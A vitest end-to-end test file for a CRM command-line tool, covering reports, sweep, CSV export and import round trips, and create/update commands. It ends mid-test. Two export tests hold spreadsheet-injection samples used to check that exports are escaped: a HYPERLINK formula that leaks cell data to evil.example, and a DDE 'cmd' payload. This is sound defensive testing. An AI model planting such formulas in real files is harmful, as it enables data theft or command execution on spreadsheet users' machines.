// Reports, sweep, export and the create/update shortcuts, on the built binary, against one demo workspace
// seeded once for the whole file (seeding and the first open of the embedded database are the slow part).
import { spawn } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CsvParser, csvLine } from "../src/csv.ts";
import { assertBuilt, BIN, cli, cliJson } from "./run-cli.ts";

let dataDir: string;
const env = () => ({ ACCOUNTABLE_DATA_DIR: dataDir });
const run = (...args: string[]) => cli(args, { env: env() });
const json = <T = Record<string, unknown>>(args: string[], expected = 0) =>
  cliJson<T>(args, expected, { env: env() });

interface Money {
  amount: number;
  currency: string;
}
interface Opportunity {
  id: string;
  name: string;
  accountId: string;
  ownerId: string;
  stageId: string;
  status: string;
  amount: Money;
  closeDate: string;
  createdAt: string;
  lossReason?: string;
}
interface Executed {
  id: string;
  version: number;
  events: { type: string }[];
  state: Record<string, unknown>;
}

/** The calendar quarter holding `d`, as the demo (calendar fiscal year) names it. */
const quarterOf = (d: Date) => `${d.getUTCFullYear()}-Q${Math.floor(d.getUTCMonth() / 3) + 1}`;
const now = new Date();
const thisQuarter = quarterOf(now);
const lastQuarter = quarterOf(new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() - 3, 15)));

/** Every deal of the workspace, through export (itself under test below). */
const allDeals = () => json<Opportunity[]>(["export", "opportunities", "--format", "json"]);

beforeAll(async () => {
  assertBuilt();
  dataDir = mkdtempSync(join(tmpdir(), "accountable-cli-reports-"));
  await json(["demo", "--deals", "120", "--seed", "5"]);
}, 120_000);

afterAll(() => {
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
});

describe("accountable report pipeline", () => {
  it("--json: per pipeline and stage, the counts add up to every deal of the workspace", async () => {
    const r = await json<{
      pipelines: { pipeline: { id: string }; stages: { stage: { id: string }; count: number }[] }[];
    }>(["report", "pipeline"]);
    const counted = r.pipelines.flatMap((p) => p.stages).reduce((n, s) => n + s.count, 0);
    expect(counted).toBe((await allDeals()).length);
    expect(r.pipelines.map((p) => p.pipeline.id)).toEqual(expect.arrayContaining(["new_business"]));
  });

  it("prints a table per pipeline by default", async () => {
    const ran = await run("report", "pipeline");
    expect(ran.code).toBe(0);
    expect(ran.stdout).toMatch(/stage\s+label\s+prob\.\s+deals\s+total\s+weighted/);
    expect(ran.stdout).toContain("prospecting");
  });
});

describe("accountable report stale", () => {
  it("names the deals' owners in the table (the JSON keeps their ids)", async () => {
    const r = await json<{
      stale: { opportunityId: string }[];
      opportunities: Record<string, { ownerId: string }>;
    }>(["report", "stale"]);
    if (r.stale.length === 0) return; // this seed left no deal rotting: nothing to name
    const ownerId = r.opportunities[r.stale[0]!.opportunityId]!.ownerId;
    const members = await json<{ items: { id: string; name: string }[] }>([
      "member",
      "list",
      "--limit",
      "200",
    ]);
    const owner = members.items.find((m) => m.id === ownerId)!;
    const ran = await run("report", "stale");
    expect(ran.stdout).toContain(owner.name);
    expect(ran.stdout).not.toContain(ownerId);
  });
});

describe("accountable report forecast", () => {
  it("--json: the service's ForecastReport for the period; by owner, the owners' deals make the total", async () => {
    type Figures = { deals: number; rollups: { commit: Money } };
    type Lines = { items: { opportunityId: string }[]; nextCursor: string | null } | null;
    type Report = {
      asOf: string | null;
      forecast: {
        currency: string;
        periods: { period: { label: string }; total: Figures; owners: Figures[]; lines: Lines }[];
      };
    };
    const r = await json<Report>(["report", "forecast", "--period", thisQuarter, "--by", "owner"]);
    expect(r.asOf).toBeNull();
    expect(r.forecast.currency).toBe("EUR");
    const [p] = r.forecast.periods;
    expect(p!.period.label).toBe(thisQuarter);
    expect(p!.owners.reduce((n, o) => n + o.deals, 0)).toBe(p!.total.deals);
    expect(p!.lines).toBeNull();
    const page = await json<Report>([
      "report",
      "forecast",
      "--period",
      thisQuarter,
      "--deals",
      "--deals-limit",
      "2",
    ]);
    const first = page.forecast.periods[0]!.lines!;
    expect(first.items).toHaveLength(Math.min(2, p!.total.deals));
    if (p!.total.deals > 2) {
      const next = await json<Report>([
        "report",
        "forecast",
        "--period",
        thisQuarter,
        "--deals-after",
        first.nextCursor!,
        "--deals-limit",
        "1000",
      ]);
      const rest = next.forecast.periods[0]!.lines!;
      expect(first.items.length + rest.items.length).toBe(p!.total.deals);
      expect(rest.nextCursor).toBeNull();
    }
    const asOf = await json<Report>(["report", "forecast", "--period", thisQuarter, "--as-of", "2020-01-01"]);
    expect(asOf.asOf).toBe("2020-01-01T23:59:59.999Z");
    expect(asOf.forecast.periods[0]!.total.deals).toBe(0);
  });

  it("needs a period (exit 2), and refuses a period that does not parse (exit 2)", async () => {
    expect((await run("report", "forecast")).code).toBe(2);
    const bad = await run("report", "forecast", "--period", "2026-Q5");
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain("period");
  });
});

describe("accountable report metrics", () => {
  type Figures = { won: number; lost: number; winRateBasisPoints: number | null; wonAmount: Money };
  type Report = {
    periods: { label: string }[];
    metrics: {
      span: { start: string; end: string };
      all: { whole: Figures; trend: { period: { label: string }; figures: Figures }[] };
      groups: { key: string | null; whole: Figures }[];
    };
  };

  it("--json: the deals closed in the span, by period and by owner, add up to the exported deals", async () => {
    const r = await json<Report>(["report", "metrics", "--per", "year", "--last", "3", "--by", "owner"]);
    expect(r.periods).toHaveLength(3);
    const { start, end } = r.metrics.span;
    const closed = (await allDeals()).filter(
      (d) =>
        d.status !== "open" &&
        (d as Opportunity & { closedAt: string }).closedAt.slice(0, 10) >= start &&
        (d as Opportunity & { closedAt: string }).closedAt.slice(0, 10) <= end,
    );
    const whole = r.metrics.all.whole;
    expect(whole.won).toBe(closed.filter((d) => d.status === "won").length);
    expect(whole.lost).toBe(closed.filter((d) => d.status === "lost").length);
    expect(whole.won + whole.lost).toBeGreaterThan(0);
    expect(r.metrics.all.trend.reduce((n, t) => n + t.figures.won, 0)).toBe(whole.won);
    expect(r.metrics.groups.reduce((n, g) => n + g.whole.wonAmount.amount, 0)).toBe(whole.wonAmount.amount);
  });

  it("prints a table per group with the owners' names, and the stages with --stages", async () => {
    const ran = await run("report", "metrics", "--by", "owner", "--stages");
    expect(ran.code).toBe(0);
    expect(ran.stdout).toContain("All deals");
    expect(ran.stdout).toMatch(/period\s+won\s+lost\s+win rate\s+by value/);
    expect(ran.stdout).toContain("whole span");
    expect(ran.stdout).toMatch(/conversion\s+left\s+avg days in stage/);
    // The stages per period too, each period a column, named by their labels (the demo has two pipelines).
    const r = await json<Report>(["report", "metrics", "--by", "owner"]);
    const labels = r.periods.map((p) => p.label);
    for (const heading of ["Stage conversion per period", "Average days in stage per period"]) {
      const section = ran.stdout.slice(ran.stdout.indexOf(heading));
      expect(section).toMatch(new RegExp(`stage\\s+${labels.join("\\s+")}`));
    }
    expect(ran.stdout).toContain("New business: Prospecting");
    expect(ran.stdout).not.toMatch(/^new_business\s+prospecting/m);
    // "as of" a day, as the CLI writes days elsewhere, not an ISO moment.
    expect(ran.stdout).toMatch(/ as of \d{4}-\d{2}-\d{2}, /);
    expect(ran.stdout).not.toMatch(/ as of \d{4}-\d{2}-\d{2}T/);
    const owners = (await json<Report>(["report", "metrics", "--by", "owner"])).metrics.groups;
    // Names, not ids, in the table: no owner id appears as a group heading.
    for (const g of owners) expect(ran.stdout).not.toContain(`owner: ${g.key}\n`);
  });

  it("refuses options it cannot read (exit 2), naming them", async () => {
    const bad = await run("report", "metrics", "--per", "week");
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain("per");
    expect((await run("report", "metrics", "--by", "colour")).code).toBe(2);
  });
});

describe("accountable report quota, renewals, stale", () => {
  it("quota --json: one attainment per quota of the period, each with its target and deals", async () => {
    type Quota = {
      period: { label: string };
      attainments: {
        memberId: string;
        dealCount: number;
        deals: { items: { opportunityId: string }[]; nextCursor: string | null } | null;
      }[];
    };
    const r = await json<Quota>(["report", "quota", "--period", thisQuarter]);
    expect(r.period.label).toBe(thisQuarter);
    expect(r.attainments.length).toBeGreaterThan(0);
    // The deals only when asked, a page at a time in id order.
    for (const a of r.attainments) expect(a.deals).toBeNull();
    const busiest = [...r.attainments].sort((a, b) => b.dealCount - a.dealCount)[0]!;
    const paged = await json<Quota>([
      "report",
      "quota",
      "--period",
      thisQuarter,
      "--deals",
      "--deals-limit",
      "1",
    ]);
    const page = paged.attainments.find((a) => a.memberId === busiest.memberId)!.deals!;
    expect(page.items.length).toBe(Math.min(1, busiest.dealCount));
    if (busiest.dealCount > 1) {
      expect(page.nextCursor).toBe(page.items[0]!.opportunityId);
      const next = await json<Quota>([
        "report",
        "quota",
        "--period",
        thisQuarter,
        "--deals-after",
        page.nextCursor!,
        "--deals-limit",
        "1000",
      ]);
      const rest = next.attainments.find((a) => a.memberId === busiest.memberId)!.deals!;
      expect(rest.items.length).toBe(busiest.dealCount - 1);
      expect(rest.items.every((d) => d.opportunityId > page.nextCursor!)).toBe(true);
    }
  });

  it("renewals --json: binding contracts with a date in the range, soonest notice deadline first", async () => {
    type R = {
      from: string;
      to: string;
      contracts: { contract: { status: string }; schedule: { noticeDeadline: { on: string } } }[];
    };
    const r = await json<R>(["report", "renewals", "--days", "365"]);
    expect(r.from).toBe(now.toISOString().slice(0, 10));
    const deadlines = r.contracts.map((c) => c.schedule.noticeDeadline.on);
    expect(deadlines).toEqual([...deadlines].sort());
    for (const c of r.contracts) expect(["signed", "active", "expiring"]).toContain(c.contract.status);
    const ranged = await json<R>(["report", "renewals", "--from", "2030-01-01", "--to", "2030-01-31"]);
    expect(ranged).toMatchObject({ from: "2030-01-01", to: "2030-01-31" });
    expect((await run("report", "renewals", "--days", "30", "--from", "2026-01-01")).code).toBe(2);
  });

  it("renewals names each contract and its account in its table, the contract's id beside it (the JSON keeps the ids)", async () => {
    const r = await json<{ contracts: { contract: { id: string; title: string; accountId: string } }[] }>([
      "report",
      "renewals",
      "--days",
      "365",
    ]);
    if (r.contracts.length === 0) return; // this seed has no renewal due within a year: nothing to name
    const accounts = await json<{ id: string; name: string }[]>(["export", "accounts", "--format", "json"]);
    const first = r.contracts[0]!.contract;
    const table = (await run("report", "renewals", "--days", "365")).stdout;
    const line = table.split("\n").find((l) => l.includes(` ${first.id} `))!;
    expect(line.startsWith(first.title)).toBe(true);
    expect(line).toContain(accounts.find((a) => a.id === first.accountId)!.name);
  }, 180_000);

  it("stale --json: every stale deal has been idle longer than its stage allows", async () => {
    const r = await json<{
      stale: { idleDays: number; limit: number; opportunityId: string }[];
      opportunities: object;
    }>(["report", "stale"]);
    for (const d of r.stale) {
      expect(d.idleDays).toBeGreaterThan(d.limit);
      expect(r.opportunities).toHaveProperty(d.opportunityId);
    }
  });
});

describe("accountable report health and pnl", () => {
  type Health = {
    accounts: { account: { id: string }; health: { score: number; factors: { signal: string }[] } }[];
  };

  it("health --json: every active account, worst first, each with its six factors", async () => {
    const r = await json<Health>(["report", "health"]);
    const scores = r.accounts.map((a) => a.health.score);
    expect(scores).toEqual([...scores].sort((a, b) => a - b));
    for (const a of r.accounts) expect(a.health.factors).toHaveLength(6);
    const one = r.accounts[0]!.account.id;
    const single = await json<Health>(["report", "health", one]);
    expect(single.accounts.map((a) => a.account.id)).toEqual([one]);
    const text = await run("report", "health", one);
    expect(text.stdout).toMatch(/factor\s+points lost\s+why/);
    expect((await run("report", "health", "no-such-account")).code).toBe(3);
  });

  it("pnl --json: the workspace total is the sum of its accounts; a contract shows its towers", async () => {
    type Pnl = { revenue: Money; margin: Money };
    type R = {
      level: string;
      accounts: { accountId: string; actual: Pnl; contracts: { contractId: string }[] }[];
      contracts: { contractId: string; towers: { towerId: string }[] }[];
      total: { actual: Pnl } | null;
    };
    const all = await json<R>(["report", "pnl"]);
    expect(all.level).toBe("workspace");
    expect(all.total!.actual.revenue.amount).toBe(
      all.accounts.reduce((n, a) => n + a.actual.revenue.amount, 0),
    );
    const withContract = all.accounts.find((a) => a.contracts.length > 0)!;
    const account = await json<R>(["report", "pnl", "--account", withContract.accountId]);
    expect(account.level).toBe("account");
    const contractId = withContract.contracts[0]!.contractId;
    const contract = await json<R>(["report", "pnl", "--contract", contractId, "--period", thisQuarter]);
    expect(contract).toMatchObject({ level: "contract", contracts: [{ contractId }] });
    expect((await run("report", "pnl", "--contract", "no-such-contract")).code).toBe(3);
    expect((await run("report", "pnl", "--account", "a", "--contract", "b")).code).toBe(2);
  });
});

describe("accountable report client", () => {
  it("renders Markdown on stdout and a standalone, printable, escaped HTML page with --out", async () => {
    // A name full of markup: both renderers must print it as text.
    const created = await json<Executed>([
      "account",
      "create",
      "Acme <b>&</b> | *Co*",
      "--id",
      "acme-markup",
      "--owner",
      "me",
    ]);
    expect(created.id).toBe("acme-markup");
    const md = await run("report", "client", "acme-markup", "--period", lastQuarter);
    expect(md.code).toBe(0);
    expect(md.stdout.split("\n")[0]).toBe(
      `# Acme \\<b\\>&\\</b\\> \\| \\*Co\\*: client report, ${lastQuarter}`,
    );
    expect(md.stdout).toContain("## Next steps");

    const file = join(dataDir, "report.html");
    const html = await run(
      "report",
      "client",
      "acme-markup",
      "--period",
      lastQuarter,
      "--format",
      "html",
      "--out",
      file,
    );
    expect(html.code).toBe(0);
    const page = readFileSync(file, "utf8");
    expect(page).toMatch(/^<!doctype html>/);
    expect(page).toContain("@media print");
    expect(page).toContain("<h1>Acme &lt;b&gt;&amp;&lt;/b&gt; | *Co*: client report");
    expect(page).not.toContain("<b>&</b>");
  });

  it("--json prints the ClientReport data of a demo account", async () => {
    const health = await json<{ accounts: { account: { id: string } }[] }>(["report", "health"]);
    const id = health.accounts[0]!.account.id;
    const r = await json<{
      account: { id: string };
      period: { label: string };
      invoices: { issued: unknown[] };
    }>(["report", "client", id, "--period", lastQuarter]);
    expect(r).toMatchObject({ account: { id }, period: { label: lastQuarter } });
    expect((await run("report", "client", id, "--period", lastQuarter, "--format", "pdf")).code).toBe(2);
  });
});

describe("accountable sweep", () => {
  it("applies what is due and, run again at the same moment, changes nothing", async () => {
    type Rule = { applied: unknown[]; refused: unknown[] };
    type Summary = {
      now: string;
      contracts: Rule;
      invoices: Rule;
      escalations: Rule;
      rotting: { stale: unknown[] };
    };
    const at = new Date(Date.now() + 86_400_000).toISOString();
    const first = await json<Summary>(["sweep", "--at", at]);
    expect(first.now).toBe(at);
    const again = await json<Summary>(["sweep", "--at", at]);
    expect(again.contracts.applied).toEqual([]);
    expect(again.invoices.applied).toEqual([]);
    expect(again.escalations.applied).toEqual([]);
    const text = await run("sweep", "--at", at);
    expect(text.stdout).toMatch(/^Swept workspace demo at /);
    expect((await run("sweep", "--at", "tomorrow")).code).toBe(2);
  });

  it("refuses a moment more than a year ahead (exit 2), before renewing anything term after term", async () => {
    const ran = await run("sweep", "--at", "2999-12-31");
    expect(ran.code).toBe(2);
    expect(ran.stderr).toMatch(
      /A sweep may look at most 366 days ahead, to \d{4}-\d{2}-\d{2}: 2999-12-31 is later\./,
    );
  });
});

describe("output into a reader that stops early (| head)", () => {
  it("ends quietly with exit 0 when the reader has closed before the list is written", async () => {
    const child = spawn(process.execPath, [BIN, "opp", "list", "--limit", "500", "--json"], {
      // The embedded database in the data folder, as `cli()` runs it (never the server's DATABASE_URL).
      env: {
        ...Object.fromEntries(Object.entries(process.env).filter(([k]) => k !== "DATABASE_URL")),
        ...env(),
      },
      stdio: ["ignore", "pipe", "pipe"],
    });
    let stderr = "";
    child.stderr.on("data", (d: Buffer) => {
      stderr += d.toString();
    });
    // Close our end before the list is written, as `head -1` has once its line is read: every write then fails.
    child.stdout.destroy();
    const code = await new Promise<number | null>((ok) => child.on("close", (c) => ok(c)));
    expect(stderr).not.toMatch(/EPIPE|Unhandled|at .*\.js:\d+/);
    expect(code, stderr).toBe(0);
  });
});

describe("accountable export", () => {
  it("CSV has a header and a row per deal; filters narrow it; JSON lines hold the domain's entities", async () => {
    const deals = await allDeals();
    const csv = await run("export", "opp");
    expect(csv.code).toBe(0);
    const lines = csv.stdout.trim().split("\n");
    // Readable: names beside ids, stages by their labels, money and its currency, days.
    expect(lines[0]).toMatch(
      /^id,name,account,accountId,owner,ownerId,type,pipeline,pipelineId,stage,stageId,amount,amountCurrency,closeDate,/,
    );
    expect(lines).toHaveLength(deals.length + 1);
    const imported = (await run("export", "opp", "--format", "import")).stdout.trim().split("\n");
    expect(imported[0]).toBe(
      "id,sourceId,name,accountName,owner,amount,currency,stage,closeDate,type,probability,lossReason,status,pipelineId,forecastCategory,createdAt,closedAt,source",
    );
    expect(imported).toHaveLength(deals.length + 1);
    const open = await run("export", "opportunities", "--status", "open", "--format", "jsonl");
    const openDeals = open.stdout
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Opportunity);
    expect(openDeals.map((d) => d.id).sort()).toEqual(
      deals
        .filter((d) => d.status === "open")
        .map((d) => d.id)
        .sort(),
    );
    const contracts = await run("export", "contracts");
    expect(contracts.stdout.split("\n")[0]).toMatch(/^id,title,account,accountId,/);
  });

  it("the readable CSV names people and clients, writes days and no JSON; --format import keeps the round trip's cells", async () => {
    const deals = await allDeals();
    const members = await json<{ items: { id: string; name: string }[] }>([
      "member",
      "list",
      "--limit",
      "200",
    ]);
    const nameOf = new Map(members.items.map((m) => [m.id, m.name]));
    const rows = (text: string) => {
      const parser = new CsvParser(",");
      return [...parser.push(text), ...parser.end()].filter((r) => r.length > 1);
    };
    const [header = [], ...body] = rows((await run("export", "opp")).stdout);
    const col = (row: string[], name: string) => row[header.indexOf(name)]!;
    expect(body).toHaveLength(deals.length);
    for (const row of body) {
      const deal = deals.find((d) => d.id === col(row, "id"))!;
      expect(col(row, "owner")).toBe(nameOf.get(deal.ownerId));
      expect(col(row, "ownerId")).toBe(deal.ownerId);
      expect(col(row, "createdAt")).toBe(deal.createdAt.slice(0, 10));
      for (const cell of row) expect(cell).not.toMatch(/^[[{]|T\d{2}:\d{2}:/);
    }
    // Contracts: terms in words, approvals by who gave them, no JSON cell.
    const [cHeader = [], ...contracts] = rows((await run("export", "contracts")).stdout);
    expect(contracts.length).toBeGreaterThan(0);
    for (const row of contracts) {
      expect(row[cHeader.indexOf("term")]).toMatch(/^\d+ (day|month)s?$/);
      for (const cell of row) expect(cell).not.toMatch(/^[[{]/);
    }
    const [iHeader = []] = rows((await run("export", "contracts", "--format", "import")).stdout);
    expect(iHeader).toContain("approvals");
    expect(iHeader).toContain("billingSchedule");
  }, 240_000); // six real processes: slow on a loaded machine

  it("nothing matching is the header line alone, also for a list named by its entity's fields", async () => {
    const deals = await run("export", "opp", "--close-date-to", "2000-01-01");
    expect(deals.code, deals.stderr).toBe(0);
    expect(deals.stdout).toMatch(/^id,name,account,[^\n]*\n$/);
    const imported = await run("export", "opp", "--close-date-to", "2000-01-01", "--format", "import");
    expect(imported.stdout).toMatch(/^id,sourceId,name,[^\n]*\n$/);
    const contracts = await run("export", "contracts", "--end-date-to", "2000-01-01");
    expect(contracts.code, contracts.stderr).toBe(0);
    expect(contracts.stdout).toMatch(/^id,title,account,accountId,[^\n]*\n$/);
    // An account no name or id names is refused (exit 3), no longer an empty file.
    const unknown = await run("export", "contracts", "--account", "no-such-account");
    expect(unknown.code).toBe(3);
    expect(unknown.stdout).toBe("");
    expect(unknown.stderr).toContain(
      '--account "no-such-account": no account you may read has that name or id',
    );
  });

  it("refuses a value no filter value is (a misspelt stage, status or sort), naming the flag, the value and the nearest: exit 2", async () => {
    for (const args of [
      ["opp", "list", "--stage", "propsal"],
      ["export", "opp", "--stage", "propsal"],
    ]) {
      const ran = await run(...args);
      expect(ran.code, args.join(" ")).toBe(2);
      expect(ran.stderr).toContain('--stage "propsal" is not a stage — did you mean proposal?');
    }
    const status = await run("contract", "list", "--status", "activ");
    expect(status.code).toBe(2);
    expect(status.stderr).toContain('--status "activ"');
    expect(status.stderr).toContain("did you mean active?");
    // A stage by its label, whatever its case, is the stage.
    const byLabel = await json<{ items: { stageId: string }[] }>(["opp", "list", "--stage", "Proposal"]);
    for (const d of byLabel.items) expect(d.stageId).toBe("proposal");
  });

  it("refuses an unknown list, format or filter: exit 2", async () => {
    expect((await run("export", "spaceships")).code).toBe(2);
    expect((await run("export", "opp", "--format", "xlsx")).code).toBe(2);
    expect((await run("export", "accounts", "--colour", "red")).code).toBe(2);
  });

  it("an exported deals CSV imports as it is into another workspace: same deals, same values", async () => {
    await json(["account", "create", "Roundtrip Ltd", "--id", "roundtrip", "--owner", "me"]);
    const create = (name: string, ...more: string[]) =>
      json<Executed>([
        "opp",
        "create",
        name,
        "--account",
        "roundtrip",
        "--close-date",
        "2027-06-30",
        ...more,
      ]);
    await create('Roundtrip, "quoted" deal', "--amount", "1234.56 EUR", "--id", "rt-1");
    await create("Roundtrip dollars", "--amount", "99000 USD", "--type", "upsell", "--id", "rt-2");
    await create("Roundtrip lost", "--amount", "5000", "--id", "rt-3");
    await json(["opp", "move", "rt-3", "closed_lost", "--reason", "budget cut, see notes"]);

    const file = join(dataDir, "roundtrip.csv");
    const exported = await json<{ rows: number; format: string }>([
      "export",
      "opp",
      "--account",
      "roundtrip",
      "--format",
      "import",
      "--out",
      file,
    ]);
    expect(exported).toMatchObject({ rows: 3, format: "import" });

    // A second workspace in the same data folder, with the same admin id so the owner column resolves.
    await json([
      "init",
      "--workspace-id",
      "copy",
      "--name",
      "Copy",
      "--admin-name",
      "Ada Demo",
      "--admin-email",
      "admin@copy.test",
      "--admin-id",
      "demo-admin",
    ]);
    const summary = await json<{ read: number; imported: number; rejected: number; rejections: unknown[] }>([
      "--workspace",
      "copy",
      "import",
      file,
    ]);
    expect(summary.rejections).toEqual([]);
    expect(summary).toMatchObject({ read: 3, imported: 3, rejected: 0 });

    const pick = (o: Opportunity) => [
      o.name,
      o.amount,
      o.stageId,
      o.status,
      o.closeDate,
      o.ownerId,
      o.lossReason,
    ];
    const before = (await allDeals()).filter((d) => d.accountId === "roundtrip").map(pick);
    const after = (
      await json<Opportunity[]>(["--workspace", "copy", "export", "opp", "--format", "json"])
    ).map(pick);
    expect(after.sort()).toEqual(before.sort());
    // Reimporting the same file skips every row.
    const again = await json<{ skipped: number; imported: number }>(["--workspace", "copy", "import", file]);
    expect(again).toMatchObject({ imported: 0, skipped: 3 });
    // A dozen CLI processes, each opening the embedded database: a minute on a loaded 2-core machine.
  }, 180_000);

  it("writes hostile text so no spreadsheet runs it, and a re-import reads the original text back", async () => {
    const account = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    const names = ["@SUM(A1:A9)", "+1", "-1", "'=already quoted", "x;=cmd()", "=1+2"];
    // Brought in by an import (one process instead of one per record), from a file written as the CLI writes.
    const source = join(dataDir, "hostile-source.csv");
    writeFileSync(
      source,
      [
        ["kind", "name", "accountName", "amount", "closeDate", "phone"],
        ...names.map((n) => ["opportunity", n, account, "10", "2027-06-30", ""]),
        ["contact", "-Dash Person", account, "", "", "+49 30 1234567"],
      ]
        .map((cells) => csvLine(cells))
        .join("\n"),
    );
    expect(await json([...["import", source, "--kind", "by-column"]])).toMatchObject({ rejected: 0 });

    const all = await json<{ id: string; name: string }[]>(["export", "accounts", "--format", "json"]);
    const accountId = all.find((a) => a.name === account)!.id;
    const deals = join(dataDir, "hostile-deals.csv");
    const contacts = join(dataDir, "hostile-contacts.csv");
    await json(["export", "opp", "--account", accountId, "--format", "import", "--out", deals]);
    await json(["export", "contacts", "--account", accountId, "--format", "import", "--out", contacts]);

    // In the files, no cell starts with = + - @ (where a spreadsheet would start a formula).
    for (const file of [deals, contacts]) {
      const text = readFileSync(file, "utf8");
      const cells = text.split(/\r?\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
      for (const cell of cells) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
      expect(text).toContain("'=HYPERLINK(");
    }
    expect(readFileSync(contacts, "utf8")).toContain("'+49 30 1234567");

    await json([
      "init",
      "--workspace-id",
      "hostile-copy",
      "--name",
      "Hostile copy",
      "--admin-name",
      "Ada Demo",
      "--admin-email",
      "admin@hostile.test",
      "--admin-id",
      "demo-admin",
    ]);
    const w = ["--workspace", "hostile-copy"];
    expect(await json([...w, "import", deals])).toMatchObject({ rejected: 0 });
    expect(await json([...w, "import", contacts, "--kind", "contact"])).toMatchObject({ rejected: 0 });
    const copied = await json<Opportunity[]>([...w, "export", "opp", "--format", "json"]);
    expect(copied.map((d) => d.name).sort()).toEqual([...names].sort());
    const accounts = await json<{ name: string }[]>([...w, "export", "accounts", "--format", "json"]);
    expect(accounts.map((a) => a.name)).toContain(account);
    const people = await json<{ name: string; phone: string }[]>([
      ...w,
      "export",
      "contacts",
      "--format",
      "json",
    ]);
    expect(people).toEqual([expect.objectContaining({ name: "-Dash Person", phone: "+49 30 1234567" })]);
  }, 240_000);

  it("writes the rejects file of an import spreadsheet-safe too", async () => {
    const file = join(dataDir, "hostile-import.csv");
    writeFileSync(file, "name,accountName,amount,closeDate\n\"=cmd|' /C calc'!A0\",@evil,12,not-a-date\n");
    // Its one row rejected: exit 8, every row rejected.
    const summary = await json<{ rejected: number; rejectsFile: string }>(["import", file], 8);
    expect(summary.rejected).toBe(1);
    const rejects = readFileSync(summary.rejectsFile, "utf8");
    expect(rejects).toContain("'=cmd|' /C calc'!A0");
    expect(rejects).toContain("'@evil");
    expect(rejects).not.toMatch(/(^|,)"?[=@]/m);
  });
});

describe("create and update shortcuts", () => {
  it("account update changes details and clears a field with an empty value", async () => {
    // The demo has account executives: an admin names the owner ("me": as before the default-owner rule).
    await json([
      "account",
      "create",
      "Shortcut GmbH",
      "--id",
      "shortcut",
      "--owner",
      "me",
      "--website",
      "https://s.test",
    ]);
    const updated = await json<Executed>([
      "account",
      "update",
      "shortcut",
      "--industry",
      "Retail",
      "--website",
      "",
    ]);
    expect(updated.events.map((e) => e.type)).toEqual(["AccountUpdated"]);
    expect(updated.state).toMatchObject({ industry: "Retail", website: null });
    expect((await run("account", "update", "shortcut")).code).toBe(2);
    expect((await run("account", "update", "no-such-account", "--industry", "x")).code).toBe(3);
  });

  it("account create and update set the client's size and region, and export writes them as columns", async () => {
    const created = await json<Executed>([
      "account",
      "create",
      "Sized SA",
      "--id",
      "sized",
      "--owner",
      "me",
      "--employees",
      "1,200",
      "--revenue",
      "250000000.50 USD",
      "--region",
      "EMEA",
    ]);
    expect(created.state).toMatchObject({
      employees: 1200,
      annualRevenue: { amount: 25_000_000_050, currency: "USD" },
      region: "EMEA",
    });
    const updated = await json<Executed>(["account", "update", "sized", "--employees", "80", "--region", ""]);
    expect(updated.state).toMatchObject({ employees: 80, region: null, annualRevenue: { currency: "USD" } });
    const csv = (await run("export", "accounts", "--format", "csv")).stdout.split(/\r?\n/);
    const header = csv[0]!.split(",");
    const row = csv.find((l) => l.startsWith("sized,"))!.split(",");
    const cell = (name: string) => row[header.indexOf(name)];
    expect([cell("employees"), cell("annualRevenue"), cell("annualRevenueCurrency"), cell("region")]).toEqual(
      ["80", "250000000.50", "USD", ""],
    );
    expect((await run("account", "update", "sized", "--employees", "many")).code).toBe(2);
  });

  it("contact create and update; opp update; task create", async () => {
    const contact = await json<Executed>([
      "contact",
      "create",
      "Dana Roe",
      "--account",
      "shortcut",
      "--id",
      "dana",
      "--email",
      "dana@s.test",
      "--role",
      "decision_maker,champion",
    ]);
    expect(contact.state).toMatchObject({ accountId: "shortcut", roles: ["decision_maker", "champion"] });
    const contactUpdated = await json<Executed>(["contact", "update", "dana", "--title", "COO"]);
    expect(contactUpdated.state).toMatchObject({ title: "COO", email: "dana@s.test" });

    await json([
      "opp",
      "create",
      "Shortcut deal",
      "--account",
      "shortcut",
      "--amount",
      "1000",
      "--close-date",
      "2027-01-31",
      "--id",
      "sd",
    ]);
    const opp = await json<Executed>([
      "opp",
      "update",
      "sd",
      "--amount",
      "2500.50",
      "--close-date",
      "2027-02-28",
    ]);
    expect(opp.state).toMatchObject({
      amount: { amount: 250_050, currency: "EUR" },
      closeDate: "2027-02-28",
    });
    expect((await run("opp", "update", "sd", "--close-date", "2027-02-30")).code).toBe(2);

    const task = await json<Executed>([
      "task",
      "create",
      "Send the report",
      "--due",
      "2027-01-15",
      "--account",
      "shortcut",
      "--agreed-with-client",
    ]);
    expect(task.state).toMatchObject({
      title: "Send the report",
      agreedWithClient: true,
      assigneeId: "demo-admin",
    });
  });

  it("task create --due refuses what is no date, saying the form a date takes and what was typed (exit 2)", async () => {
    const slashed = await run("task", "create", "Call back", "--due", "31/12/2026");
    expect(slashed.code).toBe(2);
    expect(slashed.stderr).toContain(
      '--due takes a date written YYYY-MM-DD, such as 2026-12-31: "31/12/2026" is not one.',
    );
    const noSuchDay = await run("task", "create", "Call back", "--due", "2027-02-30");
    expect(noSuchDay.code).toBe(2);
    expect(noSuchDay.stderr).toContain('--due "2027-02-30": that day does not exist in the calendar');
  });
});

describe("--help", () => {
  it("every report subcommand shows examples", async () => {
    for (const sub of ["pipeline", "forecast", "quota", "renewals", "stale", "health", "pnl", "client"]) {
      const ran = await cli(["report", sub, "--help"]);
      expect(ran.code).toBe(0);
      expect(ran.stdout).toContain(`$ accountable report ${sub}`);
    }
  });
});

describe("accountable plan", () => {
  it("lists the demo's account plans and prints an account's whitespace, in a table and as the service's report", async () => {
    const plans = await json<{ items: { id: string; accountId: string; status: string }[] }>([
      "plan",
      "list",
      "--limit",
      "50",
    ]);
    expect(plans.items.length).toBeGreaterThan(0);
    const plan = plans.items.find((p) => p.status === "active")!;
    expect(plan).toBeDefined();
    const shown = await json<{ state: { objectives: unknown[]; risks: unknown[] } }>([
      "plan",
      "show",
      plan.id,
    ]);
    expect(shown.state.objectives.length).toBe(3);
    const w = await json<{
      lines: { line: string; inCatalog: boolean; state: string; atStake: Money }[];
